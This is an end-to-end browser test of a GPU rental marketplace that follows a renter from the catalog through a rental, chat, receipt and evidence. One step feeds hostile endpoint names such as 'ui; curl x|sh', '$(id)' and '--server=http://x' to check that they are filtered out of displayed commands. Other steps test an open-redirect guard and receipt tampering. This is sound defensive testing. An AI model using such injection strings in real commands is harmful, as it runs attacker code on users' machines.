// A renter, from the first visit to the evidence of what was rented.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import test, { after } from 'node:test';
import { good } from '../clients/support/client.mjs';
import { closeBrowser, openBrowser } from './support/browser.mjs';
import { giveAddressAndCode, startMarket } from './support/market.mjs';
import { enrichPerson } from './support/renter.mjs';
import { stepsOf } from './support/steps.mjs';

after(closeBrowser);
const email = 'rae@example.org';
const [cheap, dear] = ['360000', '7200000']; // an hour

function isAt(page, pathname) {
    return page.waitForURL((url) => url.pathname === pathname);
}

// Keeps the next answers of the catalog back until what this answers is called.
async function holdCatalog(page) {
    const address = '**/api/v1/catalog?*';
    let release;
    const released = new Promise((done) => { release = done; });
    await page.route(address, async (route) => {
        await released;
        await route.fallback();
    });
    return async () => {
        release();
        await page.unrouteAll({ behavior: 'wait' });
    };
}

test('a renter: catalog, rental, chat, receipt, evidence', async (t) => {
    const market = await startMarket(t);
    const ada = await market.enlist('ada');
    const rae = await enrichPerson(market, email, 20_000_000);
    await market.openHost(ada, 'a', cheap);
    await market.openHost(ada, 'b', dear);
    const context = await openBrowser(t, market.server);
    const page = await context.newPage();
    const step = stepsOf(t, page);
    let place;

    await step('filters of the catalog are in the address', async () => {
        await page.goto('/');
        await page.getByRole('heading', { level: 1, name: 'Rent a GPU' }).waitFor();
        await page.getByText('2 offers can be rented now').waitFor();
        const rows = page.getByRole('button', { name: /^Rent 1 × / });
        assert.equal(await rows.count(), 2);

        const release = await holdCatalog(page);
        await page.getByLabel('Most per hour').fill('0.5');
        await page.waitForURL((url) => url.searchParams.get('max') === '0.5');
        const waiting = page.getByRole('region', { name: 'Offers' }).and(page.locator('[aria-busy="true"]'));
        assert.match(await waiting.innerText(), /\d s ago.*\d s ago/s, 'what is known stays as it is');
        await release();
        await page.getByText('1 of 2 offers pass your filters').waitFor();
        await page.reload();
        await page.getByText('1 of 2 offers pass your filters').waitFor();
        assert.equal(await page.getByLabel('Most per hour').inputValue(), '0.5');
        assert.equal(await rows.count(), 1);

        await page.getByLabel('Most per hour').fill('0.01');
        await page.getByText('None passes all of your filters.').first().waitFor();
        await page.getByRole('link', { name: 'Clear all' }).click();
        await page.getByText('2 offers can be rented now').waitFor();
        assert.equal(new URL(page.url()).searchParams.get('max'), null);
    });

    await step('an offer has its own page, and back leads to the filtered catalog', async () => {
        await page.goto('/?max=0.5');
        await page.getByText('1 of 2 offers pass your filters').waitFor();
        await page.getByRole('row').getByRole('link', { name: /^1 × / }).click();
        await page.waitForURL((url) => url.pathname.startsWith('/offers/'));
        await page.getByRole('heading', { level: 1, name: /^1 × / }).waitFor();
        await page.getByText('0.3600 USDC').first().waitFor();
        await page.reload();
        await page.getByRole('heading', { level: 2, name: 'Measured' }).waitFor();
        await page.goBack();
        await page.getByText('1 of 2 offers pass your filters').waitFor();
        assert.equal(new URL(page.url()).search, '?max=0.5');
    });

    await step('signing in stands in the sheet, and the choices stay', async () => {
        await page.getByRole('button', { name: /^Rent 1 × / }).click();
        const sheet = page.getByRole('dialog', { name: /^Rent 1 × / });
        await sheet.getByLabel('It may cost at most').fill('2');
        await sheet.getByRole('button', { name: 'Rent, at most 2.00 USDC' }).click();
        await sheet.getByText('Your choices stay.').waitFor();
        await giveAddressAndCode(sheet, market, email);
        await sheet.getByRole('button', { name: 'Rent, at most 2.00 USDC' }).waitFor();
        assert.equal(await sheet.getByLabel('It may cost at most').inputValue(), '2');
    });

    await step('whoever has too little is led to the money, and back', async () => {
        const sheet = page.getByRole('dialog', { name: /^Rent 1 × / });
        await sheet.getByLabel('It may cost at most').fill('50');
        await sheet.getByText('You need 30.00 USDC more.').waitFor();
        const href = await sheet.getByRole('link', { name: 'Add money' }).getAttribute('href');
        const back = page.getByRole('link', { name: 'Back to where you were' });
        await page.goto(href.replace(/back=[^&]*/, 'back=%2F%2Frebound.example'));
        await page.getByRole('heading', { level: 1, name: 'Add money' }).waitFor();
        assert.equal(await back.count(), 0, 'nobody is led elsewhere');
        await page.goto(href);
        await back.click();
        await page.waitForURL((url) => url.pathname.startsWith('/offers/'));
        await page.getByLabel('It may cost at most').fill('2');
    });

    await step('it is rented, comes up before one\'s eyes and answers', async () => {
        await page.getByRole('button', { name: 'Rent, at most 2.00 USDC' }).click();
        await page.waitForURL((url) => url.pathname.startsWith('/rentals/'));
        place = new URL(page.url()).pathname;
        await page.getByText('Cost so far').waitFor();
        await page.getByText('It answers. Ask it something.').waitFor();
        const message = page.getByLabel('Message');
        await message.fill('Say something.');
        await message.press('Enter');
        await page.getByRole('log').getByText('word1 word2 word3').waitFor();
        await page.getByRole('log').getByText(/8 tokens · first after/).waitFor();
        const { items } = good(await rae.get('/api/v1/jobs'), 200);
        assert.deepEqual(items.map(({ job_id }) => `/rentals/${job_id}`), [place]);
    });

    await step('what it costs and how it is reached stand beside the chat', async () => {
        await page.getByText('of at most 2.00').waitFor();
        await page.getByText('Back to you if you stop now').waitFor();
        await page.getByText(`base_url="${market.server.origin}/api/v1/jobs/`).waitFor();
        await page.getByRole('heading', { name: 'Through the relay so far' }).waitFor();
    });

    await step('what a host calls its doors is no command to paste', async () => {
        const names = ['jupyter', 'my page', 'ui; curl x|sh', '$(id)', '--server=http://x'];
        const alter = (path, change) => page.route(path, async (route) => {
            const response = await route.fetch();
            await route.fulfill({ response, json: change(await response.json()) });
        });
        await alter('**/api/v1/jobs/*', (job) => ({ ...job, has_model_endpoint: false }));
        await alter('**/api/v1/jobs/*/access', (access) => ({ ...access, ssh_command: 'ssh -p 2022 renter@127.0.0.1',
            ssh_host_key_fingerprint: 'whatever curl tells you', endpoints: names.map((name, at) => ({
                ...access.endpoints[0], endpoint_id: `e${at}`, name, kind: 'http', url: 'https://127.0.0.1:1/' })) }));
        await page.reload();
        await page.getByText('ssh -p 2022').waitFor();
        const lines = await page.getByText(/^berth rentals open /).allInnerTexts();
        assert.deepEqual(lines.map((line) => line.replace(/^berth rentals open [0-9a-f-]{36} /, '')),
            ['jupyter', "'my page'"]);
        await page.getByText('The host has named no key').waitFor();
        await page.unrouteAll({ behavior: 'wait' });
        await page.reload();
        await page.getByText(/base_url=/).waitFor();
    });

    await step('a reload and a way back keep the view', async () => {
        await page.reload();
        await page.getByText('It answers. Ask it something.').waitFor();
        await page.getByRole('link', { name: 'Rentals' }).first().click();
        await isAt(page, '/rentals');
        await page.getByRole('heading', { level: 1, name: 'Rentals' }).waitFor();
        await page.getByText('of at most 2.00').waitFor();
        await page.goBack();
        await isAt(page, place);
        await page.getByRole('heading', { name: 'Cost so far' }).waitFor();
    });

    await step('the budget is raised once', async () => {
        await page.getByRole('button', { name: '+0.50' }).click();
        await page.getByRole('button', { name: /^Add 0.50, run until/ }).click();
        await page.getByText('of at most 2.50').waitFor();
        const { budget_micro } = good(await rae.get(`/api/v1${place.replace('rentals', 'jobs')}`), 200);
        assert.equal(budget_micro, '2500000');
    });

    await step('it is stopped, after what follows was said', async () => {
        await page.getByRole('button', { name: 'Stop', exact: true }).click();
        const sheet = page.getByRole('dialog', { name: 'Stop this rental?' });
        await sheet.getByText('cannot be started again').waitFor();
        await sheet.getByRole('button', { name: 'Stop it' }).click();
        await page.getByText('Came back to you').waitFor();
        await page.getByText('You stopped it').waitFor();
    });

    await step('the receipt holds, by the browser\'s own reckoning', async () => {
        await page.getByRole('link', { name: 'See the receipt' }).click();
        await isAt(page, `${place}/receipt`);
        for (const name of ['The receipt is what was signed', 'The key is one that the service published',
            'The charge is rate times time, never above the budget']) {
            await page.getByText(`Passed: ${name}`).waitFor();
        }
        await page.getByText('unaltered').waitFor();
        const [saved] = await Promise.all([page.waitForEvent('download'),
            page.getByRole('button', { name: 'Download' }).click()]);
        const receipt = JSON.parse(await readFile(await saved.path(), 'utf8'));
        assert.ok(place.endsWith(receipt.job_id));
        assert.equal(BigInt(receipt.fee_micro) + BigInt(receipt.host_micro), BigInt(receipt.charge_micro));
    });

    await step('a receipt that was altered on its way does not pass', async () => {
        await page.route('**/api/v1/billing/receipts/**', async (route) => {
            const answer = await route.fetch();
            const receipt = await answer.json();
            await route.fulfill({ response: answer, json: { ...receipt, funded_budget_micro: '2500001' } });
        });
        await page.reload();
        await page.getByText('Failed: The receipt is what was signed').waitFor();
        await page.unrouteAll({ behavior: 'wait' });
        await page.reload();
        await page.getByText('Passed: The receipt is what was signed').waitFor();
    });

    await step('the evidence is one chain that the receipt names', async () => {
        await page.getByRole('link', { name: 'See the evidence' }).click();
        await isAt(page, `${place}/evidence`);
        await page.getByText(/^\d+ records, one chain without a gap\.$/).waitFor();
        await page.getByText('The signed receipt names this chain.').waitFor();
        await page.getByText('It answers').first().waitFor();
        await page.getByRole('button', { name: 'Show record 1', exact: true }).click();
        await page.getByRole('dialog', { name: /^Record 1:/ }).getByText('Said by').waitFor();
        await page.keyboard.press('Escape');
        await page.goBack();
        await isAt(page, `${place}/receipt`);
        await page.getByText('Passed: The receipt is what was signed').waitFor();
    });
});
